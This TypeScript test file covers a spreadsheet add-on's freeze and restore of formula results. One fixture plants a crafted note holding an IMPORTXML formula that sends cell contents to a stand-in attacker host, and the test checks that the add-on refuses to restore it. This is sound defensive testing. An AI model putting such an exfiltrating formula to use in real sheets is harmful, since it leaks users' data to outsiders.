// Freeze and Restore through a sheet's cells port, in memory: each result read and written once,
// and a formula put back only from a note the person's own freeze wrote.
import { freezeOrRestore } from '../../src/addon/freeze';
import { FakeCells, FakeFrozen } from './fakes';

/** Sites in A2:A4 and =VIS_SCORE(A2:A4) in B2, its result spilled down to B4. */
function sheet(): FakeCells {
  const cells = new FakeCells();
  ['nike.com', 'slack.com', 'zoom.us'].forEach((site, i) => cells.set(i + 2, 1, site));
  cells.set(2, 2, 88, '=VIS_SCORE(A2:A4)');
  cells.set(3, 2, 47);
  cells.set(4, 2, 66);
  return cells;
}

const B2 = { row: 2, col: 2, rows: 1, cols: 1 };
const B2_B4 = { row: 2, col: 2, rows: 3, cols: 1 };

it('freezes the whole result of a formula that reaches the selection, keeping it in a note', () => {
  const cells = sheet();
  const mine = new FakeFrozen();
  const tally = freezeOrRestore('freeze', cells, mine, { row: 4, col: 2, rows: 1, cols: 1 });
  expect(tally).toEqual({ changed: 1, skipped: 0, notMine: 0, blocked: [] });
  expect(cells.values(B2_B4).flat()).toEqual([88, 47, 66]);
  expect(cells.formulas(B2_B4).flat()).toEqual(['', '', '']);
  const note = cells.notes(B2)[0]![0]!;
  expect(note).toContain('=VIS_SCORE(A2:A4)');
  expect([...mine.notes]).toEqual([note]);
  expect(cells.writes).toBe(1);
});

it('restores the formula, unless a frozen cell was typed over since', () => {
  const cells = sheet();
  const mine = new FakeFrozen();
  freezeOrRestore('freeze', cells, mine, B2);
  const typed = sheet();
  freezeOrRestore('freeze', typed, mine, B2);
  typed.set(3, 2, 'my own note');
  expect(freezeOrRestore('restore', typed, mine, B2_B4).blocked).toEqual([
    { at: 'B2', changed: ['B3'] },
  ]);
  expect(freezeOrRestore('restore', cells, mine, B2_B4).changed).toBe(1);
  expect(cells.formulas(B2)[0]![0]).toBe('=VIS_SCORE(A2:A4)');
  expect(cells.notes(B2)[0]![0]).toBe('');
  expect(mine.notes.size).toBe(0);
});

describe('a note is never a formula unless its reader froze it', () => {
  it('leaves a note an editor wrote, whatever formula it names, and every cell it reaches', () => {
    const cells = new FakeCells();
    cells.set(1, 1, 'Website');
    ['a.com', 'b.com', 'c.com'].forEach((s, i) => cells.set(i + 2, 1, s));
    cells.notes_.set(
      '1,1',
      'Frozen by Visibility for Sheets (4x3): =IMPORTXML("https://evil.example/?d="&B2&B3&B4,"//a")',
    );
    const tally = freezeOrRestore('restore', cells, new FakeFrozen(), {
      row: 1,
      col: 1,
      rows: 4,
      cols: 3,
    });
    expect(tally).toMatchObject({ changed: 0, notMine: 1 });
    expect(cells.writes).toBe(0);
    expect(cells.values({ row: 1, col: 1, rows: 4, cols: 1 }).flat()).toEqual([
      'Website',
      'a.com',
      'b.com',
      'c.com',
    ]);
  });

  it('leaves a teammate’s frozen result, and one whose note was edited since the freeze', () => {
    const ana = new FakeFrozen();
    const teammates = sheet();
    freezeOrRestore('freeze', teammates, new FakeFrozen(), B2);
    expect(freezeOrRestore('restore', teammates, ana, B2_B4).notMine).toBe(1);
    const edited = sheet();
    freezeOrRestore('freeze', edited, ana, B2);
    const note = edited.notes(B2)[0]![0]!;
    edited.notes_.set('2,2', note.replace('=VIS_SCORE(A2:A4)', '=VIS_SCORE(A2:A4)+HYPERLINK("x")'));
    expect(freezeOrRestore('restore', edited, ana, B2_B4).notMine).toBe(1);
    expect(edited.formulas(B2_B4).flat()).toEqual(['', '', '']);
  });
});

it('a whole column selected is scanned only as far as the sheet holds something', () => {
  const cells = sheet();
  const asked: number[] = [];
  const formulas = cells.formulas.bind(cells);
  cells.formulas = (e) => (asked.push(e.rows), formulas(e));
  freezeOrRestore('freeze', cells, new FakeFrozen(), { row: 1, col: 2, rows: 1000, cols: 1 });
  expect(asked[0]).toBe(4);
});
